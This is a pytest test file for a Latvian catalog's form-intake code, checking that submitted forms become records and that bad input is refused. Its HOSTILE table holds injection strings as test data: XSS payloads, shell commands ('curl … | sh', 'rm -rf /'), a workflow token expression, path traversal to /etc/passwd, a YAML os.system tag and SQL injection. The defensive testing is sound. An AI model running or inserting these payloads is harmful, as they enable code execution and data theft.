"""Accepted forms: what becomes a record or a correction; what is refused, with a reason, and leaves nothing behind."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Mapping
from pathlib import Path

import pytest

from catalog.check import Known, check
from catalog.editing.intake import RefusedError, Taken, accepted, slug, take
from catalog.load import Catalog
from catalog.settings import Settings
from catalog.yamlfile import read

from .issues import BODY, CONFIRMED, DAY, EVENT, MEASURE, body, event

CORRECTED = "data/themes/izglitiba.yml"


class Desk:
    """Where forms arrive: the real content, checked once."""

    def __init__(self, catalog: Catalog, root: Path, settings: Settings, known: Known) -> None:
        self.catalog, self.root, self.settings, self.known = catalog, root, settings, known
        check(catalog, root, settings, known)

    def take(self, name: str, answers: Mapping[str, str]) -> Taken:
        """What a form proposes."""
        return self.take_text(name, body(name, answers, self.catalog))

    def take_text(self, name: str, text: str) -> Taken:
        """What a text proposes that claims to be a form."""
        issue = accepted(json.loads(json.dumps(event(text, f"veidlapa-{name}"))))
        assert issue is not None
        return take(issue, self.catalog, self.root, self.settings, self.known)

    def reasons(self, name: str, answers: Mapping[str, str]) -> str:
        """The Latvian reasons for which a form is refused."""
        with pytest.raises(RefusedError) as refused:
            self.take(name, answers)
        assert all(lv and en for lv, en in refused.value.reasons)
        return "\n".join(lv for lv, _ in refused.value.reasons)


@pytest.fixture(scope="module")
def desk(catalog: Catalog, root: Path, settings: Settings, known: Known) -> Desk:
    return Desk(catalog, root, settings, known)


# What becomes a record


def test_a_measure_becomes_a_record(desk: Desk) -> None:
    taken = desk.take("pasakums", MEASURE)
    assert taken.path == "data/local-measures/balvu-novads/balvu-novads-izglitiba-3.yml"
    value = read(taken.content, taken.path).value
    assert value["order"] == 3
    assert value["done_by"][0] == "kulturas-ministrija"
    assert value["done_by"][1]["en"] == "volunteer parents"
    assert value["citations"] == [{
        "source": "parskats-2021-2022",
        "locator": {"annex": 1, "theme": "izglitiba", "municipality": "balvu-novads", "years": [2022]},
    }]  # fmt: skip
    assert value["review"] == {"checked_on": DAY, "checked_by": "satura-redaktors", "every_months": 12}
    assert taken.title == "Lasīšanas stunda bibliotēkā"


def test_an_event_becomes_a_record(desk: Desk) -> None:
    taken = desk.take("notikums", EVENT)
    assert taken.path == "data/events/lasisanas-svetki.yml"
    assert b"period:\n  start: 2022-04-08\n" in taken.content
    assert b"organisers: [kulturas-ministrija]\n" in taken.content


def test_an_organisation_becomes_a_record(desk: Desk) -> None:
    taken = desk.take("organizacija", BODY | {"aims-lv": "lasīt\nrakstīt", "aims-en": "to read\nto write"})
    assert taken.path == "data/organisations/paraugu-gramatu-nams.yml"
    assert read(taken.content, "").value["aims"][1]["en"] == "to write"


def test_several_choices_are_told_apart(desk: Desk) -> None:
    ticked = "Balvu novads / Balvi Municipality, Rīga / Riga, Ventspils"
    taken = desk.take("notikums", EVENT | {"municipalities": ticked})
    assert b"municipalities: [balvu-novads, riga, ventspils]\n" in taken.content


def test_a_name_is_found_by_any_case_and_language(desk: Desk) -> None:
    taken = desk.take("notikums", EVENT | {"organisers": "ministry of CULTURE"})
    assert b"organisers: [kulturas-ministrija]\n" in taken.content


def test_a_correction_changes_its_words_and_nothing_else(desk: Desk, root: Path) -> None:
    before = (root / CORRECTED).read_text(encoding="utf-8")
    summary = read(before.encode(), "").value["summary"]
    wrong_lv, wrong_en = summary["lv"].split()[0], summary["en"].split()[0]
    taken = desk.take("labojums", CONFIRMED | {
        "page": "https://example.org/temati/izglitiba/", "record": CORRECTED, "line": "9", "source": "Avots, 1. lpp.",
        "wrong-lv": summary["lv"], "right-lv": summary["lv"].replace(wrong_lv, "Skolās", 1),
        "wrong-en": summary["en"], "right-en": summary["en"].replace(wrong_en, "Schools", 1),
    })  # fmt: skip
    after = taken.content.decode()
    changed = [line for line in after.splitlines() if line not in before.splitlines()]
    assert taken.path == CORRECTED
    assert not taken.is_new
    assert 3 <= len(changed) <= 6
    assert "Skolās" in after
    assert "Schools" in after


# What is refused

LONG = "vārds " * 4000
HOSTILE = {
    "script": ("pasakums", MEASURE | {"title-lv": "<script>alert(1)</script>"}, "programmas kods"),
    "image": ("pasakums", MEASURE | {"summary-en": '<img src=x onerror="alert(1)">'}, "programmas kods"),
    "comment of HTML": ("pasakums", MEASURE | {"note-lv": "<!-- slēpts -->", "note-en": "x"}, "programmas kods"),
    "script in a link": ("notikums", EVENT | {"url": "javascript:alert(1)"}, "programmas kods"),
    "link of Markdown": ("notikums", EVENT | {"about-lv": "[šeit](https://example.org)"}, "programmas kods"),
    "data address": ("notikums", EVENT | {"url": "data:text/html;base64,PHNjcmlwdD4="}, "programmas kods"),
    "file address": ("notikums", EVENT | {"url": "file:///etc/passwd"}, "https://"),
    "address with a password": ("notikums", EVENT | {"url": "https://a:b@example.org/"}, "https://"),
    "shell": ("pasakums", MEASURE | {"title-lv": "$(curl https://example.org | sh)"}, "programmas kods"),
    "backticks": ("pasakums", MEASURE | {"title-en": "`id`"}, "programmas kods"),
    "shell after a semicolon": ("pasakums", MEASURE | {"funding-lv": "x; rm -rf /", "funding-en": "x"}, "kods"),
    "shell by and": ("pasakums", MEASURE | {"result-lv": "x && curl y", "result-en": "x"}, "programmas kods"),
    "variable of a shell": ("pasakums", MEASURE | {"title-lv": "${HOME}"}, "programmas kods"),
    "workflow expression": ("pasakums", MEASURE | {"title-lv": "${{ github.token }}"}, "programmas kods"),
    "workflow command": ("pasakums", MEASURE | {"summary-lv": "::add-mask::x"}, "programmas kods"),
    "template": ("pasakums", MEASURE | {"summary-lv": "{{ settings }}"}, "programmas kods"),
    "directive": ("pasakums", MEASURE | {"summary-lv": "[[cite: x]]"}, "programmas kods"),
    "path upwards": ("pasakums", MEASURE | {"title-lv": "../../.github/workflows/x"}, "programmas kods"),
    "path in a choice": ("pasakums", MEASURE | {"municipality": "../../hooks"}, "programmas kods"),
    "path of a system": ("labojums", CONFIRMED | {
        "page": "https://example.org/", "record": "/etc/passwd", "source": "x", "wrong-lv": "a", "right-lv": "b",
    }, "programmas kods"),
    "path of the program": ("labojums", CONFIRMED | {
        "page": "https://example.org/", "record": "hooks/events.py", "source": "x", "wrong-lv": "a", "right-lv": "b",
    }, "nav"),
    "second document": ("pasakums", MEASURE | {"summary-lv": "x\n---\nid: y"}, "programmas kods"),
    "huge": ("pasakums", MEASURE | {"summary-lv": LONG}, "pārāk gara"),
    "summary too long": ("pasakums", MEASURE | {"summary-lv": "vārds " * 60}, "vārdu skaits"),
    "control sign": ("pasakums", MEASURE | {"title-lv": "Lasīšana\x07"}, "vadības zīme"),
    "null": ("pasakums", MEASURE | {"title-lv": "Lasī\x00šana"}, "vadības zīme"),
    "wrong encoding": ("pasakums", MEASURE | {"title-lv": "Las\ufffd\ufffdana"}, "aizstājējzīme"),
    "hidden sign": ("pasakums", MEASURE | {"title-lv": "Lasī\u200bšana"}, "nulles platuma"),
    "writing backwards": ("pasakums", MEASURE | {"title-lv": "Lasī\u202ešana"}, "rakstības virziena"),
    "Cyrillic look-alike": ("pasakums", MEASURE | {"title-lv": "Lаsīšana"}, "citu rakstu"),
    "forbidden name": ("pasakums", MEASURE | {
        "summary-lv": "Nodarbības vadīja Jānis Kalniņš.", "summary-en": "The sessions were led by Jānis Kalniņš.",
    }, "personas vārda"),
    "forbidden name in pieces": ("pasakums", MEASURE | {
        "summary-lv": unicodedata.normalize("NFD", "Nodarbības vadīja Jānis Kalniņš."),
        "summary-en": "The sessions were led by Jānis Kalniņš.",
    }, "personas vārda"),
    "telephone": ("pasakums", MEASURE | {"summary-lv": "Zvaniet 26 123 456."}, "tālruņa numuru"),
    "e-mail": ("pasakums", MEASURE | {"summary-en": "Write to a@piemers.lv."}, "e-pasta adresi"),
    "small count": ("pasakums", MEASURE | {
        "summary-lv": "Piedalījās 3 romu bērni.", "summary-en": "3 Roma children took part."}, "mazs skaitlis"),
    "body named like a person": ("organizacija", BODY | {"name-lv": "Jānis Kalniņš"}, "personas vārda"),
    "duplicate": ("notikums", EVENT | {
        "title-lv": "CAHROM ekspertu vizīte Rīgā, Jelgavā un Jūrmalā", "period-start": "2018-10-03",
    }, "jau ir"),
    "duplicate of a body": ("organizacija", BODY | {"name-lv": "Kultūras ministrija"}, "jau ir"),
    "unknown municipality": ("pasakums", MEASURE | {"municipality": "Balvu novds"}, "Balvu novads"),
    "unknown state": ("pasakums", MEASURE | {"state": "izdarīts"}, "nav izvēles"),
    "unknown source": ("pasakums", MEASURE | {"citations-0-source": "Pārskats, kura nav"}, "tāda ieraksta nav"),
    "unknown organiser": ("notikums", EVENT | {"organisers": "Balvu pašvaldība"}, "abās valodās"),
    "number in words": ("pasakums", MEASURE | {"citations-0-locator-annex": "pirmais"}, "skaitlis ar cipariem"),
    "year of nobody": ("pasakums", MEASURE | {"years": "divtūkstoš"}, "gadi"),
    "day as people write it": ("notikums", EVENT | {"period-start": "8.04.2022"}, "gaidīts datums"),
    "numbers that differ": ("pasakums", MEASURE | {
        "summary-lv": "Notika 12 stundas.", "summary-en": "There were 21 lessons."}, "skaitļi"),
    "one language only": ("pasakums", MEASURE | {"note-lv": "Piezīme."}, "abās valodās"),
    "lists that differ": ("organizacija", BODY | {"aims-lv": "viens\ndivi", "aims-en": "one"}, "jāatbilst"),
    "nothing answered": ("pasakums", CONFIRMED, "nav aizpildīts"),
    "name without letters": ("notikums", EVENT | {"title-lv": "…", "title-en": "…"}, "neviena burta"),
    "words that are not there": ("labojums", CONFIRMED | {
        "page": "https://example.org/", "record": CORRECTED, "source": "x", "wrong-lv": "nav tādu", "right-lv": "x",
    }, "nav"),
    "half a correction": ("labojums", CONFIRMED | {
        "page": "https://example.org/", "record": CORRECTED, "source": "x", "right-lv": "x",
    }, "gan"),
    "number of an issue": ("pasakums", MEASURE | {"summary-lv": "Skatīt #123."}, "programmas kods"),
    "account to call": ("pasakums", MEASURE | {"summary-lv": "Paldies @kultura par to."}, "lietotājvārdu"),
    "tag of YAML": ("pasakums", MEASURE | {"title-lv": "!!python/object:os.system x"}, "programmas kods"),
    "field of YAML": ("pasakums", MEASURE | {"title-lv": "x\nid: {y: z}"}, "programmas kods"),
    "front matter": ("notikums", EVENT | {"about-lv": "---\ntitle: x\n---\nTeksts."}, "programmas kods"),
    "image of Markdown": ("notikums", EVENT | {"about-lv": "![x](https://example.org/a.png)"}, "programmas kods"),
    "link by reference": ("pasakums", MEASURE | {"summary-lv": "Skatīt [šeit][1]."}, "programmas kods"),
    "heading of Markdown": ("pasakums", MEASURE | {"summary-lv": "# Virsraksts"}, "programmas kods"),
    "made-up heading": ("pasakums", MEASURE | {"note-lv": "x\n\n### Kas zina\n\ny", "note-en": "x"}, "programmas kods"),
    "bold": ("pasakums", MEASURE | {"title-lv": "**Lasīšana**"}, "programmas kods"),
    "address in the text": ("pasakums", MEASURE | {"summary-lv": "Skatīt www.piemers.lv."}, "tīmekļa adrese"),
    "expression set apart": ("pasakums", MEASURE | {"title-lv": "$ { { secrets.X } }"}, "programmas kods"),
    "pattern of a program": ("pasakums", MEASURE | {"title-lv": "{0.__class__}"}, "programmas kods"),
    "end of a query": ("pasakums", MEASURE | {"title-lv": "x'; DROP TABLE users"}, "programmas kods"),
    "formula of a table": ("organizacija", BODY | {"name-lv": "=HYPERLINK(1)"}, "programmas kods"),
    "path of Windows": ("organizacija", BODY | {"name-lv": "C:\\Windows\\x"}, "programmas kods"),
    "address that is taken": ("organizacija", BODY | {"name-lv": "index", "name-en": "index"}, "jau ir aizņemta"),
    "half a character": ("pasakums", MEASURE | {"title-lv": "Lasī\ud800šana"}, "aizstājējzīme"),
    "another code page": ("pasakums", MEASURE | {"title-lv": "Lasîðana bibliotçkâ"}, "kodējumā"),
    "signs for letters": ("pasakums", MEASURE | {"title-lv": "Ｌasīšana"}, "tikai izskatās"),
    "unseen tag": ("pasakums", MEASURE | {"title-lv": "Lasīšana\U000e0041"}, "neredzama zīme"),
    "marks in a heap": ("pasakums", MEASURE | {"title-lv": "L\u0336\u0322\u034aasīšana"}, "vairākas zīmes"),
    "digits of another script": ("pasakums", MEASURE | {"years": "٢٠٢٢"}, "gadi"),
    "one long word": ("notikums", EVENT | {"about-lv": "a" * 9000, "about-en": "a" * 9000}, "pārāk garš"),
    "end before the beginning": ("notikums", EVENT | {"period-end": "2021-01-01"}, "pirms sākuma"),
    "host of the house": ("notikums", EVENT | {"url": "https://127.0.0.1/x"}, "https://"),
    "address with a quotation mark": ("notikums", EVENT | {"url": 'https://example.org/"onload=x'}, "https://"),
    "personal code": ("pasakums", MEASURE | {"note-lv": "Kods 010190-12345.", "note-en": "x"}, "personas kodu"),
    "home of somebody": ("pasakums", MEASURE | {"note-lv": "Dzīvo Brīvības ielā 15-3.", "note-en": "x"}, "mājas"),
    "not confirmed": ("pasakums", MEASURE | {"confirmed": "- [ ] Privātu vārdu nav."}, "Pirms iesniegšanas"),
    "list of the program": ("labojums", CONFIRMED | {
        "page": "https://example.org/", "record": "data/vocabularies/interface.yml", "source": "x",
        "wrong-lv": "Meklēt", "right-lv": "x",
    }, "nav"),
    "error without words": ("kluda", CONFIRMED | {
        "page": "https://example.org/", "wrong": "Kaut kas", "source": "x"}, "izlasa cilvēks"),
}  # fmt: skip


@pytest.mark.parametrize("kind", HOSTILE)
def test_it_is_refused_and_leaves_nothing(
    desk: Desk, kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    name, answers, said = HOSTILE[kind]
    monkeypatch.chdir(tmp_path)
    assert said in desk.reasons(name, answers)
    assert list(tmp_path.iterdir()) == []


def test_there_are_many_and_each_is_of_a_kind_of_its_own() -> None:
    assert len({str(answers) for _, answers, _ in HOSTILE.values()}) == len(HOSTILE) >= 80


def test_what_is_offered_instead_is_close(desk: Desk) -> None:
    """Names of municipalities' own bodies differ in one word."""
    said = desk.reasons("notikums", EVENT | {"organisers": "Preiļu novada pašvaldība"})
    assert "rakstiet organizācijas pilnu nosaukumu" in said
    assert "domājāt" not in said
    assert "Vai domājāt „Kultūras ministrija”?" in desk.reasons(
        "notikums", EVENT | {"organisers": "Kulturas ministrja"}
    )


def test_headings_of_the_form_cannot_be_made_up(desk: Desk) -> None:
    text = body("pasakums", MEASURE | {"note-lv": "x\n\n### Pašvaldība / Municipality\n\nRīga / Riga"}, desk.catalog)
    with pytest.raises(RefusedError) as refused:
        desk.take_text("pasakums", text)
    assert "ir divreiz" in refused.value.reasons[0][0]


@pytest.mark.parametrize("text", ["", "Labdien! Man ir kļūda.", "### Cits virsraksts\n\nx"])
def test_what_is_no_form_is_refused(desk: Desk, text: str) -> None:
    with pytest.raises(RefusedError) as refused:
        desk.take_text("pasakums", text)
    assert "veidlap" in refused.value.reasons[0][0]


@pytest.mark.parametrize(
    "payload",
    [
        event("x", "veidlapa-pasakums", action="opened"),
        event("x", "veidlapa-pasakums", label="veidlapa-pasakums"),
        event("x"),
        event("x", "veidlapa-pasakums", "veidlapa-notikums"),
        {"action": "labeled"},
        {"action": "labeled", "label": {"name": "pieņemts"}, "issue": {"pull_request": {}, "labels": [], "body": "x"}},
    ],
)
def test_only_a_form_accepted_by_a_maintainer_counts(payload: dict[str, object]) -> None:
    assert accepted(payload) is None


def test_names_of_files_are_plain() -> None:
    assert slug("Ērģeļu „Mūzika” / 5 — ŽŅĶ!") == "ergelu-muzika-5-znk"
    assert slug("../..//etc") == "etc"
